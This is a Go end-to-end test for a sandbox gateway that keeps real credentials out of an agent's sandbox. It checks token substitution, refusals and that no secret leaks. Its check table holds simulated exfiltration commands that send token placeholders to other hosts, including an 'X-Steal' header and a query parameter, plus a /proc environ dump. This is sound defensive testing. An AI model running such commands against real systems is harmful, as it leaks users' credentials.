package egress_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/charmbracelet/log"

	"github.com/litterbox-dev/litterbox/egress"
	"github.com/litterbox-dev/litterbox/gateway/policy"
	"github.com/litterbox-dev/litterbox/provider"
	"github.com/litterbox-dev/litterbox/provider/docker"
	"github.com/litterbox-dev/litterbox/runner"
	"github.com/litterbox-dev/litterbox/secrets"
)

// toolsImage has curl, git and python3-requests: the clients an agent
// uses (scripts/ensure-debian-tools-image.sh).
const toolsImage = "litterbox-test/debian-tools:bookworm"

// syncBuffer is a buffer the runner's logger writes from several
// goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// finder is a writer that reports whether any of its needles passed
// through it, split across writes or not.
type finder struct {
	needles []string
	tail    []byte
	found   map[string]bool
	n       int64
}

func (f *finder) Write(p []byte) (int, error) {
	buf := append(f.tail, p...)
	for _, s := range f.needles {
		if bytes.Contains(buf, []byte(s)) {
			f.found[s] = true
		}
	}
	keep := 256
	if len(buf) > keep {
		buf = buf[len(buf)-keep:]
	}
	f.tail = append([]byte(nil), buf...)
	f.n += int64(len(p))
	return len(p), nil
}

func token(prefix string) string {
	var b [16]byte
	_, _ = rand.Read(b[:])
	return prefix + hex.EncodeToString(b[:])
}

// localTOML is the user's .litterbox.local.toml: a git token from a
// command (as a password manager's), an API key from the environment, a
// registry token from a file.
const localTOML = `
[secrets.git]
command = ["cat", %q]
hosts = ["git.test"]
user = "x-access-token"
env = "GIT_TOKEN"

[secrets.api]
source = "env:LB_E2E_API_TOKEN"
hosts = ["api.test", "badcert.test"]
header = "Authorization: Bearer {}"
env = "API_TOKEN"

[secrets.registry]
source = "file:%s"
hosts = ["sub.test"]
env = "REGISTRY_TOKEN"
`

// TestSecrets proves, on Docker, that a sandbox uses credentials it never
// holds: the user declares them, the host reads their values and gives
// them to the gateway on stdin, the sandbox gets placeholders and the
// gateway's CA. From the Debian image, git pushes over https to a git
// server that wants a token; curl and python call an API that wants
// another and get what it earns; a token in a URL's userinfo is
// substituted. A placeholder sent anywhere else (plain HTTP, another
// bound host) is refused and recorded; over TLS to a host no secret is
// bound to, it goes as it is, a placeholder. A bound host whose
// certificate is not valid gets nothing. A source that fails names its
// secret. And no value is anywhere but the host's memory and the
// gateway's: not the sandbox's environment, files or /proc, the
// containers' specs and logs, the record, the debug log, the listing.
// (The secrets are the gateway's: the engine does not matter, and
// TestGateway proves the gateway on each.)
func TestSecrets(t *testing.T) {
	e := engines[0]
	if out, err := exec.Command("docker", "image", "inspect", "--format", "x", toolsImage).CombinedOutput(); err != nil {
		need(t, "the image %s is missing (%s): run scripts/ensure-debian-tools-image.sh", toolsImage, strings.TrimSpace(string(out)))
	}
	r := newRig(t, e)
	in := r.in
	ctx := context.Background()

	// The real tokens, which only this process (the host) holds.
	gitToken, apiToken, regToken := token("ghs_"), token("sk-"), token("npm_")
	values := []string{gitToken, apiToken, regToken}
	dir := t.TempDir()
	gitTokenFile, regTokenFile := filepath.Join(dir, "git-token"), filepath.Join(dir, "registry-token")
	for f, v := range map[string]string{gitTokenFile: gitToken + "\n", regTokenFile: regToken + "\n"} {
		if err := os.WriteFile(f, []byte(v), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("LB_E2E_API_TOKEN", apiToken)

	// The servers: git's http-backend that wants the git token, an API
	// that wants the API key and echoes what it was sent, a registry that
	// wants its token as Basic credentials, and an echo on other.test.
	bare := filepath.Join(dir, "repo.git")
	for _, args := range [][]string{{"init", "-q", "--bare", bare}, {"-C", bare, "config", "http.receivepack", "true"}} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	execPath, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	backend := &cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(execPath)), "git-http-backend"),
		Env: []string{"GIT_PROJECT_ROOT=" + dir, "GIT_HTTP_EXPORT_ALL=1"}}
	in.Mux.HandleFunc("git.test/", func(w http.ResponseWriter, r *http.Request) {
		if _, pass, ok := r.BasicAuth(); !ok || pass != gitToken {
			w.Header().Set("WWW-Authenticate", `Basic realm="git.test"`)
			http.Error(w, "git.test wants a token", http.StatusUnauthorized)
			return
		}
		backend.ServeHTTP(w, r)
	})
	in.Mux.HandleFunc("api.test/", func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		w.Header().Set("X-Echo", auth)
		if auth != "Bearer "+apiToken {
			http.Error(w, "bad credentials", http.StatusUnauthorized)
			return
		}
		fmt.Fprintf(w, "{\"user\": \"octocat\", \"you sent\": %q}\n", auth)
	})
	in.Mux.HandleFunc("sub.test/", func(w http.ResponseWriter, r *http.Request) {
		if _, pass, ok := r.BasicAuth(); !ok || pass != regToken {
			http.Error(w, "the registry wants its token", http.StatusUnauthorized)
			return
		}
		fmt.Fprintln(w, "welcome to the private registry")
	})
	in.Mux.HandleFunc("other.test/echo", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "other.test got: %s\n", r.Header.Get("Authorization"))
	})

	// The user's declarations, and the sandbox's placeholders.
	decls, err := secrets.Parse(".litterbox.local.toml", fmt.Appendf(nil, localTOML, gitTokenFile, regTokenFile))
	if err != nil {
		t.Fatal(err)
	}
	bindings := secrets.Bind(decls)
	ph := map[string]string{}
	for _, b := range bindings {
		ph[b.Name] = b.Placeholder
	}
	spec := sandboxSpec(fmt.Sprintf("lbgw-e2e-%d-secrets", os.Getpid()), r.label)
	spec.Image = toolsImage
	spec.Env = append(append(spec.Env, secrets.Env(bindings)...), egress.TrustEnv()...)
	policy := policy.Policy{Sandbox: "gamma", Mode: policy.ModeAllowlist,
		Allow: []string{"allowed.test", "other.test", "git.test", "api.test", "sub.test", "badcert.test"}, Host: r.hostAddrs()}
	b := r.confineSpec(spec, policy)

	// What create will do, every command logged at debug level: fetch the
	// values, give them to the gateway, give the sandbox the CA.
	var logs syncBuffer
	lg := log.New(&logs)
	lg.SetLevel(log.DebugLevel)
	run := runner.Exec{Log: lg}
	o := e.options
	o.Runner = run
	dp, err := docker.New(o)
	if err != nil {
		t.Fatal(err)
	}
	prepared, err := secrets.Prepare(ctx, run, decls, bindings, []string{string(in.CAPEM)})
	if err != nil {
		t.Fatal(err)
	}
	info, err := egress.SetSecrets(ctx, dp, b.gw, prepared)
	if err != nil {
		t.Fatal(err)
	}
	if err := egress.WriteTrust(ctx, dp, b.sb, []byte(info.CA)); err != nil {
		t.Fatal(err)
	}
	sh := func(cmd string) (string, int) {
		t.Helper()
		res, err := dp.Exec(ctx, provider.ExecRequest{Ref: b.sb, Cmd: []string{"sh", "-c", cmd}})
		if err != nil {
			t.Fatalf("exec %q: %v", cmd, err)
		}
		return string(res.Stdout) + string(res.Stderr), res.ExitCode
	}
	var outputs strings.Builder // everything the sandbox's commands printed

	// git push over https, with the token held only here.
	push := `set -e
cd /tmp && rm -rf work && git init -q -b main work && cd work
echo 'made in the sandbox' > README
git add README && git -c user.name=agent -c user.email=agent@sandbox.invalid commit -qm 'work of the agent'
echo "GIT_TOKEN=$GIT_TOKEN"
GIT_TERMINAL_PROMPT=0 git push https://git.test/repo.git main 2>&1
GIT_TERMINAL_PROMPT=0 git ls-remote https://git.test/repo.git 2>&1`
	out, code := sh(push)
	outputs.WriteString(out)
	t.Logf("git push from the sandbox:\n$ %s\n%s", strings.ReplaceAll(push, "\n", "\n$ "), out)
	if code != 0 || !strings.Contains(out, "* [new branch]      main -> main") || !strings.Contains(out, "refs/heads/main") {
		t.Fatalf("git push: exit %d", code)
	}
	if got, _ := exec.Command("git", "-C", bare, "log", "--format=%s", "main").Output(); strings.TrimSpace(string(got)) != "work of the agent" {
		t.Errorf("the server's repository holds %q", got)
	}

	type check struct {
		what, cmd string
		code      int
		want      []string
	}
	for _, c := range []check{
		{"curl, a header the gateway adds", `curl -sS -D - https://api.test/whoami`, 0,
			[]string{"HTTP/1.1 200", `"user": "octocat"`, `"you sent": "Bearer ` + ph["api"] + `"`, "X-Echo: Bearer " + ph["api"]}},
		{"python requests (REQUESTS_CA_BUNDLE)", `python3 -c 'import requests; r = requests.get("https://api.test/whoami"); print(r.status_code, r.text)'`, 0,
			[]string{"200", `"user": "octocat"`, ph["api"]}},
		{"python urllib (SSL_CERT_FILE)", `python3 -c 'import urllib.request as u; print(u.urlopen("https://api.test/whoami").read().decode())'`, 0,
			[]string{`"user": "octocat"`}},
		{"curl, the placeholder in a URL's userinfo", `curl -sS "https://registry:$REGISTRY_TOKEN@sub.test/private"`, 0,
			[]string{"welcome to the private registry"}},
		{"a placeholder over plain HTTP to another host", `curl -sS -i http://other.test/ -H "X-Api-Key: $API_TOKEN"`, 0,
			[]string{"403 Forbidden: litterbox refused the placeholder of secret api for other.test:80", "The attempt is recorded"}},
		{"a placeholder in a query, from python", `python3 -c 'import os, requests; r = requests.get("http://allowed.test/", params={"k": os.environ["GIT_TOKEN"]}); print(r.status_code, r.text)'`, 0,
			[]string{"403", "may not send the placeholder of secret git to allowed.test:80"}},
		{"a placeholder over plain HTTP to its own host", `curl -sS -i http://api.test/ -H "Authorization: Bearer $API_TOKEN"`, 0,
			[]string{"403 Forbidden", "which would carry it unencrypted"}},
		{"another secret's placeholder to a bound host", `curl -sS -i https://api.test/whoami -H "X-Steal: $GIT_TOKEN"`, 0,
			[]string{"HTTP/1.1 403", "may not send the placeholder of secret git to api.test:443"}},
		{"over TLS to a host no secret is bound to, the placeholder goes as it is", `curl -sS --cacert /tmp/ca.pem https://other.test/echo -H "Authorization: Bearer $API_TOKEN"`, 0,
			[]string{"other.test got: Bearer " + ph["api"]}},
		{"a bound host whose certificate is not valid", `curl -sS -i https://badcert.test/`, 0,
			[]string{"HTTP/1.1 502", "the certificate of badcert.test is not valid, so the gateway did not send it the secret"}},
	} {
		out, code := sh(c.cmd)
		outputs.WriteString(out)
		ok := code == c.code
		for _, w := range c.want {
			ok = ok && strings.Contains(out, w)
		}
		if !ok {
			t.Errorf("%s: exit %d:\n%s", c.what, code, out)
		}
	}

	// A secret whose source fails: named, and nothing else breaks.
	failing, err := secrets.Parse(".litterbox.local.toml", []byte("[secrets.vault]\ncommand = [\"sh\", \"-c\", \"echo 'vault: sealed, unlock it first' >&2; exit 2\"]\nhosts = [\"vault.test\"]\n"))
	if err != nil {
		t.Fatal(err)
	}
	all := secrets.Merge(decls, failing)
	_, ferr := secrets.Prepare(ctx, run, all, append(secrets.Bind(failing), bindings...), nil)
	if ferr == nil || !strings.Contains(ferr.Error(), `secret "vault": its command sh -c`) || !strings.Contains(ferr.Error(), "vault: sealed, unlock it first") {
		t.Errorf("a failing source: %v", ferr)
	}
	t.Logf("a failing source: %v", ferr)
	if out, code := sh(`curl -sS https://api.test/whoami`); code != 0 || !strings.Contains(out, "octocat") {
		t.Errorf("after the failure, the API: exit %d: %s", code, out)
	}
	held, err := egress.GetSecrets(ctx, dp, b.gw)
	if err != nil || len(held.Bound) != 3 {
		t.Errorf("the gateway holds %+v, %v", held, err)
	}

	// The record: what was added, what was refused.
	recs := b.collect()
	var exfil []string
	for _, w := range []struct {
		kind, host string
		port       int
		allowed    bool
		secret     string
		reason     string
	}{
		{"https", "git.test", 443, true, "git", "secret git added"},
		{"https", "api.test", 443, true, "api", "secret api added"},
		{"https", "sub.test", 443, true, "registry", "secret registry added"},
		{"connect", "api.test", 443, true, "", "TLS terminated by the gateway for secret api"},
		{"http", "other.test", 80, false, "api", "exfiltration attempt: the placeholder of secret api sent to other.test:80, a host it is not bound to"},
		{"http", "allowed.test", 80, false, "git", "exfiltration attempt: the placeholder of secret git sent to allowed.test:80"},
		{"http", "api.test", 80, false, "api", "which would carry it unencrypted"},
		{"https", "api.test", 443, false, "git", "exfiltration attempt: the placeholder of secret git sent to api.test:443"},
		{"https", "badcert.test", 443, false, "", "the server's certificate is not valid"},
		{"connect", "other.test", 443, true, "", "allowed by other.test"},
	} {
		found := false
		for _, rec := range recs {
			if rec.Kind == w.kind && rec.Host == w.host && rec.Port == w.port && rec.Allowed == w.allowed &&
				(w.secret == "" || rec.Secret == w.secret) && strings.Contains(rec.Reason, w.reason) {
				found = true
				if strings.Contains(rec.Reason, "exfiltration") {
					j, _ := json.Marshal(rec)
					exfil = append(exfil, egress.Summary(rec)+"\n    "+string(j))
				}
				break
			}
		}
		if !found {
			t.Errorf("no record %+v", w)
		}
	}
	t.Logf("refused exfiltration attempts, as recorded:\n%s", strings.Join(exfil, "\n"))

	// No value anywhere but here.
	where := map[string]string{}
	recJSON, _ := json.Marshal(recs)
	where["the record"] = string(recJSON)
	where["the debug log of every command litterbox ran"] = logs.String()
	where["the sandbox's commands' output"] = outputs.String()
	where["an error"] = fmt.Sprint(ferr)
	heldJSON, _ := json.Marshal(held)
	where["what the gateway says it holds"] = string(heldJSON) + info.CA
	var listing bytes.Buffer
	secrets.WriteTable(&listing, secrets.List(decls, []secrets.SandboxBindings{{Sandbox: "gamma", Bindings: bindings}}))
	rows, _ := json.Marshal(secrets.List(decls, []secrets.SandboxBindings{{Sandbox: "gamma", Bindings: bindings}}))
	where["litterbox secrets"] = listing.String() + string(rows)
	t.Logf("litterbox secrets:\n%s", listing.String())
	env, _ := sh("env")
	where["the sandbox's environment"] = env
	if !strings.Contains(env, "GIT_TOKEN="+ph["git"]) || !strings.Contains(env, "SSL_CERT_FILE="+egress.CABundle) {
		t.Errorf("the sandbox's environment lacks its placeholder or its CA:\n%s", env)
	}
	procs, _ := sh(`for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null; echo; done | tr '\0' '\n'`)
	where["the sandbox's /proc"] = procs
	if !strings.Contains(procs, ph["api"]) {
		t.Errorf("/proc read nothing: %d bytes", len(procs))
	}
	for _, c := range []provider.Ref{b.sb, b.gw} {
		where["docker inspect "+c.ID] = b.mustDocker("inspect", c.ID)
		where["docker logs "+c.ID], _ = r.docker("logs", c.ID)
		logsOut, _ := exec.Command("docker", "logs", c.ID).CombinedOutput()
		where["docker logs "+c.ID] += string(logsOut)
	}
	for what, text := range where {
		for i, v := range values {
			if strings.Contains(text, v) {
				t.Errorf("%s holds the value of secret %d", what, i)
			}
		}
	}
	// The sandbox's files, every one it can read, scanned here (a grep
	// there would put the values in its /proc).
	f := &finder{needles: values, found: map[string]bool{}}
	res, err := dp.Exec(ctx, provider.ExecRequest{Ref: b.sb, Stdout: f,
		Cmd: []string{"tar", "-C", "/", "-cf", "-", "--exclude=./proc", "--exclude=./sys", "--exclude=./dev", "--ignore-failed-read", "."}})
	if err != nil || f.n < 10<<20 {
		t.Errorf("tar of the sandbox's files: %d bytes, exit %d, %v", f.n, res.ExitCode, err)
	}
	if len(f.found) > 0 {
		t.Errorf("the sandbox's files hold %d of the values", len(f.found))
	}
	if !strings.Contains(logs.String(), "ctl secrets") || !strings.Contains(logs.String(), gitTokenFile) {
		t.Errorf("the debug log does not show the commands that ran:\n%s", logs.String())
	}
}
